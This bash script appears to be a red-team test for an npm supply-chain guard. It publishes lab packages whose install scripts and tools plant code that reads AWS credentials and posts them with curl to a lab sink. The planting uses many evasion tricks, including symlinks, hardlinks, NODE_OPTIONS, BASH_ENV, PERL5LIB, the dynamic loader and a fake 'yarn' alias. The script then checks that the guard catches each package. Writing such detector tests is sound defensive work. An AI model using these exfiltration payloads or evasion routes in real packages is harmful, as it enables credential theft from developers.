#!/bin/bash
# R57: code of a package that the project's scripts run while something is installed, without
# executing a file of the package and without a write of its scripts: by links, by further names of
# a file, by a shell that reads it, by what a dependency's tool writes, by a name of a manager.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R57 "a package's code, run as the project's"
RT_HONEST=(ms) RT_SCRIPTED=()
AT=/tmp/${LAB##*/}-r57
LOOT=.aws/credentials
js() { printf "require('child_process').execFileSync('curl', ['-s', '--data-binary', \
require('fs').readFileSync('%s'), 'http://%s/%s'])" "$RT_HOME/$LOOT" "$RT_SINK" "$1"; }
mjs() { printf "import {createRequire} from 'module'; const require = createRequire('/'); %s" \
	"$(js "$@")"; }
sh_() { printf 'd=$(cat %s) && curl -s --data-binary "$d" http://%s/%s' "$RT_HOME/$LOOT" \
	"$RT_SINK" "$1"; }
pl() { printf 'system(q{%s});1;' "$(sh_ "$1")"; }
USES=() WHOSE=()
# A guest's processor is slow, and npm publish takes seconds: one row of each kind.
left_out() {
	[ -n "${VMTEST:-}" ] || return 1
	case $1 in
	l*dir-x | lhard-x | lother-x | hmoved-x | modules-x | wrapped-x) return 1 ;;
	noformat-x | twrites-x | tlink-x | string-h) return 1 ;;
	esac
}
# plants NAME LANGUAGE SCRIPT USE [WHOSE]: the postinstall SCRIPT has the code of NAME in `code`;
# the project does USE in its prepare, and WHOSE is accused.
plants() {
	! left_out "$1" || return 0
	mkdir -p "$LAB/packages/$1" && "$2" "$1" >"$LAB/packages/$1/code"
	rt_package "$1" 1.0.0 - postinstall "$3"
	USES+=("$4") WHOSE+=("${5:-$1}")
}
# tool NAME LANGUAGE SCRIPT USE: the same, but SCRIPT is a command of its name, and it has no
# install script. $own is its directory.
tool() {
	local dir=$LAB/packages/$1
	! left_out "$1" || return 0
	mkdir -p "$dir" && "$2" "$1" >"$dir/code"
	printf '#!/bin/sh\nown=$(dirname "$(realpath "$0")")\n%s\n' "$3" >"$dir/tool"
	add_tool "$1" "$1"
	USES+=("$4") WHOSE+=("$1")
}
add_tool() { # PACKAGE COMMAND
	local dir=$LAB/packages/$1
	chmod 755 "$dir/tool"
	rt_package "$1" 1.0.0 - - -
	jq --arg c "$2" '.version = "1.0.1" | .bin = {($c): "tool"}' "$dir/package.json" \
		>"$LAB/p.json" && cat "$LAB/p.json" >"$dir/package.json"
	lab_publish "$dir"
}

# ---- Links that get a name outside after they were made inside, and links to another package.
plants lmoved-x sh_ "ln -s \"\$PWD/code\" l && mv l $AT-lm" "sh $AT-lm"
plants ldir-x sh_ "mkdir d && ln -s \"\$PWD/code\" d/l && mv d $AT-ld" "sh $AT-ld/l"
plants lhard-x sh_ "ln -s \"\$PWD/code\" l && ln -P l $AT-lh" "sh $AT-lh"
plants ljs-x js "ln -s \"\$PWD/code\" l && mv l $AT-lj.js" "node $AT-lj.js"
plants lmjs-x mjs "ln -s \"\$PWD/code\" l.mjs && mv l.mjs $AT-lm.mjs" \
	"node --no-warnings $AT-lm.mjs"
plants lpy-x pl "ln -s \"\$PWD/code\" l && mv l $AT-lp.pl" "perl $AT-lp.pl"
plants lother-x true "ln -s \"\$INIT_CWD/node_modules/quiet-q/lother-x.js\" $AT-lo.js" \
	"node $AT-lo.js" quiet-q
plants lotherdir-x true "ln -s \"\$INIT_CWD/node_modules/quiet-q\" $AT-lod" \
	"sh $AT-lod/lotherdir-x" quiet-q
# ---- Names.
plants hmoved-x js "cp code $AT-h1.js && ln $AT-h1.js $AT-h2.js && mv $AT-h1.js in.js" \
	"node $AT-h2.js"
plants hover-x js "echo >own.js; cp code $AT-o1.js && ln $AT-o1.js $AT-o2.js &&
	mv -f $AT-o1.js own.js && rm own.js" "node $AT-o2.js"
plants hcreate-x js "cp code $AT-c1.js && ln $AT-c1.js in.js && node -e \"
	fs.closeSync(fs.openSync('in.js', fs.constants.O_CREAT | fs.constants.O_RDWR))\"" \
	"node $AT-c1.js"
plants again-x js "cp code $AT-g.js && rm $AT-g.js && cp code $AT-g.js && touch -d 2020-01-01 \
	$AT-g.js" "node $AT-g.js"
plants modules-x js 'mkdir -p /tmp/node_modules/r57-m && cp code /tmp/node_modules/r57-m/index.js' \
	'node build.js r57-m'
plants path-x js "mkdir -p $AT-p && cp code $AT-p/r57-p.js" \
	"NODE_PATH=$AT-p node -e \"require('r57-p')\""
plants options-x js "cp code $AT-n.js" "NODE_OPTIONS=--require=$AT-n.js node -e 0"
plants perl-x pl "mkdir $AT-pl && cp code $AT-pl/P.pm" "PERL5LIB=$AT-pl perl -MP -e 1"
plants bashenv-x sh_ "cp code $AT-env" "BASH_ENV=$AT-env bash -c true"
plants fd-x sh_ "cp code $AT-fd" "sh /dev/fd/5 5<$AT-fd"
plants dynamic-x true "cp /bin/cat $AT-cat" "d=\$(\$(readelf -p .interp /bin/cat | grep -o '/.*') \
$AT-cat $RT_HOME/$LOOT) && curl -s --data-binary \"\$d\" http://$RT_SINK/dynamic-x"
plants wrapped-x sh_ "(echo '#!/bin/sh'; cat code) >$AT-w && chmod 755 $AT-w" "quiet-wrap $AT-w"
# A helper that waits puts the file in its place when the project's script has begun.
plants waits-x sh_ "setsid sh -c 'while [ ! -e $AT-begun ]; do sleep 0.1; done; cp code $AT-wait.1;
	mv $AT-wait.1 $AT-wait; sleep 3; rm $AT-wait' >/dev/null 2>&1 &" \
	": >$AT-begun; for i in 1 2 3 4 5 6 7 8 9; do [ -e $AT-wait ] || sleep 0.2; done;
	sh $AT-wait"
# ---- Without any script: what a shell reads.
plants noformat-x true true "bash -c 'quiet-noformat; true'" quiet-q
plants sourced-x true true '. node_modules/quiet-q/sourced-x' quiet-q
# ---- What a tool has written.
tool twrites-x js 'cp $own/code after.js' 'twrites-x; node ./after.js'
tool tnew-x js "cp \$own/code $AT-tn.js" "tnew-x; node $AT-tn.js"
tool tlink-x js "ln \$own/code $AT-tl.js" "tlink-x; node $AT-tl.js"
tool tprogram-x sh_ "(echo '#!/bin/sh'; cat \$own/code) >$AT-tp && chmod 755 $AT-tp" \
	"tprogram-x; $AT-tp"
tool tmoved-x sh_ "cp \$own/code $AT-tm.1 && mv $AT-tm.1 $AT-tm" "tmoved-x; sh $AT-tm"
# ---- A dependency called like a manager, which is another package.
mkdir -p "$LAB/packages/alias-x" &&
	printf '#!/usr/bin/env node\n%s\n' "$(js alias-x)" >"$LAB/packages/alias-x/tool"
add_tool alias-x yarn
unset 'RT_DEPENDENCIES[-1]'
USES+=('yarn run x') WHOSE+=(.bin/yarn)
# ---- What gets through (SECURITY.md): code that goes through a pipe or a string, and a module
# that a tool changes in node_modules.
plants pipe-h sh_ "cp code $AT-pipe" "cat $AT-pipe | sh"
plants string-h sh_ "cp code $AT-string" "sh -c \"\$(cat $AT-string)\""
plants data-h js 'cp code "$INIT_CWD/data.json"' \
	"node -e \"eval(fs.readFileSync('./data.json', 'utf8'))\""
tool tmodule-h js 'cp $own/code node_modules/ms/index.js' \
	'tmodule-h; node -e "require(\"ms\")"'
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)

# The quiet one: no script, one tool that starts what it is told to, one without `#!`.
dir=$LAB/packages/quiet-q
mkdir -p "$dir" && js lother-x >"$dir/lother-x.js" && sh_ lotherdir-x >"$dir/lotherdir-x"
sh_ sourced-x >"$dir/sourced-x" && sh_ noformat-x >"$dir/noformat"
printf '#!/bin/sh\nsh -c "exec $1"\n' >"$dir/tool"
chmod 755 "$dir"/*
add_tool quiet-q quiet-wrap
jq '.version = "1.0.2" | .bin["quiet-noformat"] = "noformat"' "$dir/package.json" \
	>"$LAB/p.json" && cat "$LAB/p.json" >"$dir/package.json" && lab_publish "$dir"

rt_setup() {
	rm -rf "$AT"-* /tmp/node_modules/r57-m
	printf '%s\n' "${USES[@]//$'\n'/ }" >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'echo "try { require(process.argv[2]) } catch { }" >build.js
		echo // >after.js; sed "s/.*/( & )/" >prepare.sh' <"$LAB/uses"
	jq '.scripts = {prepare: "sh prepare.sh; true"} |
		.optionalDependencies.yarn = "npm:alias-x@1.0.1"' "$RT_PROJECT/package.json" \
		>"$LAB/p.json" && cat "$LAB/p.json" >"$RT_PROJECT/package.json"
}
# What has come with the secret, not only asked.
taken() { lab_sink web | jq -r '.requests[]' | grep -o '/[a-z]*-[xh]' | tr -d / | sort -u; }

rt_control
rt_is 'the code of each was run' "$(taken)" "$names"

if rt_guarded; then
	rt_is 'exit status' "$RT_STATUS" 86
	rt_is 'what got through' "$(taken)" "$(grep -e '-h$' <<<"$names")"
	while read -r name; do
		rt_ok "$name is accused" rt_events wormsign.verdict=kill package.name="$name" \
			'wormsign.effect~killed|refused'
	done < <(printf '%s\n' "${WHOSE[@]}" | grep -v -e '-h$' | sort -u)
	RT_ATTACKERS+=('quiet-q 1.0.2 -' '.bin/yarn - -')
	rt_no_innocent_accused
	rt_no_survivors
fi

# ---- Honest: a compiler's output is run by the next script, which reads what project scripts read.
RT_DEPENDENCIES=() RT_ATTACKERS=() USES=() WHOSE=()
tool compiler-h true 'mkdir -p dist && cp src.js dist/out.js && cp src.sh dist/out.sh' ''
rt_setup() {
	rm -rf "$AT"-*
	lab_as_user "$RT_PROJECT" sh -c 'git init -q . && echo "
		const fs = require(\"fs\"); fs.readFileSync(process.env.HOME + \"/.npmrc\");
		fs.writeFileSync(\"generated.js\", \"1\"); fs.mkdirSync(\"dist/a\")" >src.js
		echo "git config core.hooksPath .husky
		. node_modules/compiler-h/env.sh; echo \$V >v" >src.sh'
	jq '.scripts = {prepare: "compiler-h && node dist/out.js && sh dist/out.sh"}' \
		"$RT_PROJECT/package.json" >"$LAB/p.json" &&
		cat "$LAB/p.json" >"$RT_PROJECT/package.json"
}
echo 'V=7' >"$LAB/packages/compiler-h/env.sh"
jq '.version = "1.0.2"' "$LAB/packages/compiler-h/package.json" >"$LAB/p.json" &&
	cat "$LAB/p.json" >"$LAB/packages/compiler-h/package.json" &&
	lab_publish "$LAB/packages/compiler-h"
if rt_guarded honest; then
	rt_peaceful
	rt_is 'what the scripts did' "$(cat "$RT_PROJECT/generated.js" "$RT_PROJECT/v" |
		tr -d '\n')" 17
fi
rm -rf "$AT"-* /tmp/node_modules/r57-m
rmdir /tmp/node_modules 2>/dev/null
rt_end
